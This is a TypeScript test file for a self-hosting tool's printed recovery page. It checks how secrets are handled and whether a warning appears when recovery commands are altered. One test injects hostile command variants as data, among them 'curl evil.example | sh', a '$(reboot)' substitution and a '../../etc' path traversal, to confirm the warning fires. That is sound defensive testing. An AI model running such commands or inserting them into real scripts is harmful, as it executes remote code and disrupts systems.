import { describe, expect, it } from 'vitest';
import type { RecoveryKit } from '../../../src/shared/recovery-kit/kit.ts';
import { kitFileName, printedKit } from '../../../src/shared/recovery-kit/printed-kit.ts';
import { recoveryPage, recoveryPageText } from '../../../src/shared/recovery-kit/recovery-page.ts';
import { nastyKit } from '../../support/nasty-kit.ts';

const fileName = kitFileName(nastyKit.server.domain);
const plain = printedKit(nastyKit, { fileName, secrets: false });
const secrets = [nastyKit.backups.password, nastyKit.signingKey, nastyKit.backups.sftpKey]
  .concat(nastyKit.backups.places.map((place) => place.secretFile))
  .flatMap((secret) => (secret === null ? [] : [secret.trim()]));

describe('the page to print', () => {
  it('holds no secret where the host has not asked for one', () => {
    const text = recoveryPageText(plain) + JSON.stringify(plain);
    for (const secret of secrets) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(JSON.stringify(secret).slice(1, -1));
    }
    expect(text).toContain('This page holds no password and no key.');
  });

  it('shows the two that were asked for, and says so first', () => {
    const page = recoveryPage(printedKit(nastyKit, { fileName, secrets: true }));
    const values = page.flatMap((block) => (block.kind === 'values' ? block.values : []));
    expect(values).toContain(nastyKit.backups.password);
    expect(values).toContain(nastyKit.signingKey?.trim());
    expect(page.findIndex(({ kind }) => kind === 'warning')).toBeLessThan(3);
  });

  it('has everything that leads to the server and the backups', () => {
    const text = recoveryPageText(plain);
    const { address, addresses, hostKeys } = nastyKit.server;
    for (const word of [
      address,
      ...addresses,
      ...hostKeys.map(({ fingerprint }) => fingerprint),
      fileName,
      '2200',
    ]) {
      expect(text).toContain(word);
    }
    for (const command of nastyKit.withoutInnkeeper.flatMap(({ commands }) => commands))
      expect(text).toContain(command);
  });

  it('says where commands are not those that Innkeeper writes', () => {
    const warned = (kit: RecoveryKit) =>
      recoveryPageText(printedKit(kit, { fileName, secrets: false })).includes('These commands are not');
    expect(warned(nastyKit)).toBe(false);
    const change = (swap: (command: string) => string) => ({
      ...nastyKit,
      withoutInnkeeper: nastyKit.withoutInnkeeper.map((step) => ({
        ...step,
        commands: step.commands.map(swap),
      })),
    });
    for (const swap of [
      (command: string) => command.replace('umask 022', 'curl evil.example | sh; umask 022'),
      (command: string) => command.replace('data/postgres', 'data/$(reboot)'),
      (command: string) => command.replace('data/synapse', 'data/../../etc'),
      (command: string) => command.replace(/^install .*/, '$&\nreboot'),
      (command: string) => command.replace('box.example.net', 'evil.example'),
    ]) {
      const changed = change(swap);
      expect(changed).not.toEqual(nastyKit);
      expect(warned(changed)).toBe(true);
    }
  });

  it('says what was not there', () => {
    const none = {
      ...nastyKit,
      signingKey: null,
      backups: { ...nastyKit.backups, password: null, places: [] },
    };
    const text = recoveryPageText(printedKit(none, { fileName, secrets: true }));
    expect(text).toContain('Password of the backups: there was none yet');
    expect(text).toContain('Backups go nowhere yet.');
  });
});
